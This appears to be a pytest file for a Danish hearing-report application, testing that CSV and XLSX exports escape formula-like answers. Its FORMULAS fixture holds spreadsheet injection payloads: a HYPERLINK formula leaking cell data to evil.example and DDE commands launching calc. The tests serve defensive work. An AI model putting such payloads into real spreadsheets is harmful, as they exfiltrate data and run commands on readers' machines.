"""Item 2: answers that look like formulas reach the spreadsheet as text (OWASP CSV injection):
CSV cells starting with = + - @ tab CR get a ``'``; XLSX cells are strings, never formulas."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from hoering.reports.cells import csv_text
from hoering.services.answers import record_answer
from hoering.services.hearing_reports import export_hearing
from tests.support import make_runtime
from tests.web.conftest import open_example

FORMULAS = {
    "Aalborg": '=HYPERLINK("http://evil.example/?x="&B2,"Klik")',
    "Hjørring": "+cmd|' /C calc'!A0",
    "Læsø": "-2+3+cmd|' /C calc'!A0",
    "Rebild": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_csv_text_rules():
    assert csv_text("=1+1") == "'=1+1" and csv_text("@x") == "'@x" and csv_text("-x") == "'-x"
    assert csv_text("+x") == "'+x" and csv_text("\tx") == "'\tx" and csv_text("\r=x") == "'\n=x"
    assert csv_text("＝1+1") == "'＝1+1"
    assert csv_text("Helt almindelig tekst, 3 = 3") == "Helt almindelig tekst, 3 = 3"


def test_formula_comments_are_text_in_csv_and_xlsx(tmp_path, sqlite_url, clock):
    rt = make_runtime(tmp_path, sqlite_url, clock)
    hid = open_example(rt)
    for kommune, comment in FORMULAS.items():
        record_answer(rt, hid, kommune=kommune, option="pulje", comment=comment)

    rows = list(csv.reader(io.StringIO(export_hearing(rt, hid, "csv").decode("utf-8-sig")), delimiter=";"))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")
                or (c[:1] == "-" and not c[1:2].isdigit())]
    for comment in FORMULAS.values():
        assert "'" + comment in cells

    workbook = load_workbook(io.BytesIO(export_hearing(rt, hid, "xlsx")))
    formula_cells = [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert not formula_cells
    values = [c.value for row in workbook["Svar"].iter_rows() for c in row]
    for comment in FORMULAS.values():
        assert comment in values  # shown as written, as a string cell
